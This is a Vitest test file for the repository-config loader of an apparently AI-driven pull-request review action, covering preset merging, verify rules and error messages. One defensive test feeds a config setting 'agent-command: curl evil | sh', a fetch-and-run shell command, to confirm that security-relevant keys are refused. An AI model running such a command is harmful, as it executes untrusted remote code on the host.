import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../src/config/errors.js';
import type { RawInputs } from '../../src/config/inputs.js';
import { parseRepoConfig, resolveConfig, type ResolvedConfig } from '../../src/config/repo-config.js';

const FILE = '.github/pr-review-loop.yml';
const TOKEN: RawInputs = { 'github-token': 't' };

const REPO_CONFIG = `
defaults:
  max-rounds: 5
  fail-on: P1
  mode: review
  verify:
    - npm ci
    - npm test
presets:
  strict:
    max-rounds: 8
    confirm: P0
    reviewers:
      - claude:claude-sonnet-4-5
      - opencode:google/gemini-2.5-pro
    agent-config:
      codex: { model_provider: azure }
  quick:
    max-rounds: 1
hooks:
  before-review: ./scripts/prepare.sh
  after-fix:
    - npm run lint
    - npm run format-check
instructions: |
  Pay attention to SQL injection.
paths:
  exclude: [docs/**, "*.md"]
`;

/** Resolves with REPO_CONFIG, another file text, or (null) no file at all. */
function resolve(inputs: RawInputs, text: string | null = REPO_CONFIG): ResolvedConfig {
  return resolveConfig({ inputs: { ...TOKEN, ...inputs }, repoConfigText: text ?? undefined });
}

function problemsOf(fn: () => unknown): readonly string[] {
  try {
    fn();
  } catch (error) {
    if (error instanceof ConfigError) return error.problems;
    throw error;
  }
  throw new Error('expected a ConfigError');
}

describe('resolveConfig', () => {
  it('without a file: built-in defaults, empty hooks and paths', () => {
    const config = resolve({ verify: 'npm test' }, null);
    expect(config).toMatchObject({ maxRounds: 3, mode: 'fix', preset: 'default', instructions: undefined });
    expect(config.hooks).toEqual({ 'before-review': [], 'after-review': [], 'after-fix': [], 'after-finish': [] });
    expect(config.paths).toEqual({ include: [], exclude: [] });
  });

  it('merges built-in defaults → file defaults → preset → inputs', () => {
    const config = resolve({ preset: 'strict', 'fail-on': 'P2', 'max-rounds': '' });
    expect(config.agentTimeoutMinutes).toBe(20); // built in
    expect(config.verify).toEqual(['npm ci', 'npm test']); // file defaults
    expect(config.mode).toBe('review'); // file defaults, not touched by the preset
    expect(config.maxRounds).toBe(8); // preset beats defaults; the empty input does not count
    expect(config.confirm).toBe('P0'); // preset
    expect(config.failOn).toBe('P2'); // input beats defaults
    expect(config.reviewers).toEqual([
      { agent: 'claude', model: 'claude-sonnet-4-5' },
      { agent: 'opencode', model: 'google/gemini-2.5-pro' },
    ]);
    expect(config.agentConfig).toEqual({ codex: { model_provider: 'azure' } });
    expect(config.hooks['before-review']).toEqual(['./scripts/prepare.sh']);
    expect(config.hooks['after-fix']).toEqual(['npm run lint', 'npm run format-check']);
    expect(config.instructions).toBe('Pay attention to SQL injection.\n');
    expect(config.paths).toEqual({ include: [], exclude: ['docs/**', '*.md'] });
  });

  it('refuses mode: fix without verify, naming the input and showing one that works', () => {
    const refusal =
      'Input "verify" is required with mode: fix (the default): a fix is pushed only after these commands pass. ' +
      'Set verify: none to push fixes without any check, or mode: review to only review. ' +
      'Example: verify: |\n    npm ci\n    npm test';
    expect(problemsOf(() => resolve({}, null))).toEqual([refusal]);
    expect(problemsOf(() => resolve({ mode: 'fix' }, null))[0]).toMatch(/^Input "verify" is required with mode: fix: /);
    // mode from the file: the message names where it came from.
    expect(problemsOf(() => resolve({}, 'defaults:\n  mode: fix\n'))[0]).toContain(
      `with mode: fix (${FILE}:2: defaults.mode)`,
    );
  });

  it('takes verify: none as the explicit choice to push unchecked, and verify from the file or mode: review', () => {
    expect(resolve({ verify: 'none' }, null).verify).toBe('none');
    expect(resolve({ verify: 'None' }, null).verify).toBe('none');
    expect(resolve({ mode: 'review' }, null).verify).toEqual([]);
    expect(resolve({ mode: 'fix' }).verify).toEqual(['npm ci', 'npm test']); // the file's defaults
    expect(resolve({}, 'defaults:\n  verify: none\n').verify).toBe('none');
    expect(problemsOf(() => resolve({ verify: 'none\nnpm test' }, null))).toEqual([
      'Input "verify" is either commands or `none` alone (push fixes without any check); got "none\\nnpm test". ' +
        'Example: verify: |\n    npm ci\n    npm test',
    ]);
  });

  it('applies only the selected preset', () => {
    expect(resolve({ preset: 'quick' }).maxRounds).toBe(1);
    expect(resolve({}).maxRounds).toBe(5);
    expect(resolve({ 'max-rounds': '2', preset: 'strict' }).maxRounds).toBe(2);
  });

  it('refuses a preset the file does not define, but not the implicit default', () => {
    expect(problemsOf(() => resolve({ preset: 'fast' }))).toEqual([
      `Input "preset" names "fast", but ${FILE} does not define it (presets: strict, quick). Example: preset: strict`,
    ]);
    expect(problemsOf(() => resolve({ preset: 'fast' }, null))[0]).toContain(`there is no ${FILE}`);
    expect(resolve({ preset: 'default' }).maxRounds).toBe(5);
  });

  it('names the file and the key when a value from the file is bad', () => {
    const text = 'defaults:\n  max-rounds: eleven\npresets:\n  p:\n    dry-run: maybe\n';
    expect(problemsOf(() => resolve({ preset: 'p', mode: 'nope' }, text))).toEqual([
      `${FILE}:2: defaults.max-rounds must be a whole number from 1 to 10; got "eleven". Example: max-rounds: 3`,
      `${FILE}:5: presets.p.dry-run must be true or false; got "maybe". Example: dry-run: true`,
      'Input "mode" must be one of fix, review; got "nope". Example: mode: review',
    ]);
  });

  it('names the line of each key with a problem, all of them at once, at any depth', () => {
    const text = [
      '# yaml-language-server: $schema=…', // 1
      'defaults:', // 2
      '  max-rounds: 3', // 3
      '  fail-on: P5', // 4
      'presets:', // 5
      '  strict:', // 6
      '    reviewers:', // 7
      '      - claude:claude-sonnet-4-5', // 8
      '    confirm: [P0, P1]', // 9
      '    isolation: off', // 10
      '  quick: { max-rounds: 0, inline-comments: sometimes }', // 11
      'hooks:', // 12
      '  after-fix: ./lint.sh', // 13
      '  befor-review: ./x.sh', // 14
      '',
    ].join('\n');
    expect(problemsOf(() => parseRepoConfig(text, FILE))).toEqual([
      `${FILE}:4: defaults.fail-on must be one of none, P0, P1, P2; got "P5". Example: fail-on: P1`,
      `${FILE}:9: presets.strict.confirm must be one of none, P0, P1; got "P0\\nP1". Example: confirm: P1`,
      `${FILE}:10: presets.strict.isolation can only be set in the workflow file, as an input`,
      `${FILE}:11: presets.quick.max-rounds must be a whole number from 1 to 10; got "0". Example: max-rounds: 3`,
      `${FILE}:11: presets.quick.inline-comments must be true or false; got "sometimes". ` +
        'Example: inline-comments: true',
      `${FILE}:14: hooks.befor-review is not a known key (known: before-review, after-review, after-fix, after-finish)`,
    ]);
    // A value only the merged inputs can judge names its line too: the preset's reviewer entry.
    // A preset's name may hold dots: the line is still its key's.
    const merged = 'presets:\n  v1.2:\n    mode: review\n    reviewers: [a, b, c, d, e, f]\n';
    expect(problemsOf(() => resolve({ preset: 'v1.2' }, merged))).toEqual([
      expect.stringMatching(
        new RegExp(`^${FILE.replace(/\./g, '\\.')}:4: presets\\.v1\\.2\\.reviewers must list 1 to 5`),
      ),
    ]);
  });

  it('uses the config-file input as the name in messages, and names the input a key misspells', () => {
    const text = 'defaults: {max-round: 3, colour: red}';
    const problems = problemsOf(() => resolve({ 'config-file': 'ci/review.yml' }, text));
    expect(problems).toEqual([
      'ci/review.yml:1: defaults.max-round is not an action input; did you mean max-rounds? ' +
        '(see the inputs in docs/configuration.md)',
      'ci/review.yml:1: defaults.colour is not an action input (see the inputs in docs/configuration.md)',
    ]);
  });

  it('refuses keys that are not inputs, at every level', () => {
    const text = 'defualts: {}\npresets:\n  a:\n    reviewer: x\nhooks:\n  before-fix: x\npaths:\n  only: [a]\n';
    expect(problemsOf(() => resolve({}, text))).toEqual([
      `${FILE}:1: defualts is not a known key (known: presets, defaults, hooks, instructions, rules-file, paths, decision-answerers)`,
      `${FILE}:4: presets.a.reviewer is not an action input; did you mean reviewers? ` +
        '(see the inputs in docs/configuration.md)',
      `${FILE}:6: hooks.before-fix is not a known key (known: before-review, after-review, after-fix, after-finish)`,
      `${FILE}:8: paths.only is not a known key (known: include, exclude)`,
    ]);
  });

  it('keeps security-relevant switches in the workflow file', () => {
    const text =
      'defaults:\n  github-token: x\n  allow-fork-fixes: true\npresets:\n  p:\n    agent-command: curl evil | sh\n';
    expect(problemsOf(() => resolve({}, text))).toEqual([
      `${FILE}:2: defaults.github-token can only be set in the workflow file, as an input`,
      `${FILE}:3: defaults.allow-fork-fixes can only be set in the workflow file, as an input`,
      `${FILE}:6: presets.p.agent-command can only be set in the workflow file, as an input`,
    ]);
  });

  it('reports bad YAML with its position, along with bad inputs', () => {
    const problems = problemsOf(() => resolve({ 'max-rounds': '0' }, 'defaults:\n  max-rounds: [1\n'));
    expect(problems).toHaveLength(2);
    expect(problems[0]).toMatch(new RegExp(`^${FILE.replace(/\./g, '\\.')} is not valid YAML: .*line \\d+`));
    expect(problems[1]).toMatch(/^Input "max-rounds" must be a whole number/);
  });

  it('reports wrong shapes in plain words', () => {
    expect(problemsOf(() => parseRepoConfig('- a\n- b\n', FILE))).toEqual([`${FILE}:1: the top level must be a map`]);
    expect(problemsOf(() => parseRepoConfig('hooks:\n  after-fix: {run: x}\ninstructions: [a]\n', FILE))).toEqual([
      `${FILE}:2: hooks.after-fix must be a string or a list of strings`,
      `${FILE}:3: instructions must be a string`,
    ]);
  });

  it('takes a rules file name per folder (REVIEW.md by default, "" for none), never a path', () => {
    expect(parseRepoConfig('', FILE).rulesFile).toBe('REVIEW.md');
    expect(parseRepoConfig('rules-file: RULES.md\n', FILE).rulesFile).toBe('RULES.md');
    expect(parseRepoConfig('rules-file: ""\n', FILE).rulesFile).toBe('');
    expect(problemsOf(() => parseRepoConfig('rules-file: docs/REVIEW.md\n', FILE))).toEqual([
      `${FILE}:1: rules-file is a file name, not a path (e.g. REVIEW.md)`,
    ]);
  });

  it('accepts an empty or comment-only file', () => {
    expect(parseRepoConfig('# nothing yet\n', FILE).presets).toEqual({});
    expect(resolve({ mode: 'review' }, '').maxRounds).toBe(3);
  });
});
